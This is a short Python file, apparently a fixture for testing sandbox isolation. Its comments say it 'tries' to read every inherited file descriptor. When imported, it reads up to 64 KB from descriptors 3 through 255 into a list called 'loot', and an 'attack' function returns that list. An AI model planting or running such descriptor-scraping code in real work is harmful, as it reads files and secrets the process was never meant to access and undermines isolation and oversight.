# tries: read every descriptor that it inherited
# keeps: before f after
before = 1


def f(n):
    return 2 * n


import os

loot = []
for fd in range(3, 256):
    try:
        os.set_blocking(fd, False)
        loot.append(str(os.pread(fd, 1 << 16, 0)))
    except OSError as error:
        loot.append(str(error))


def attack(n):
    return str(loot)


after = 2
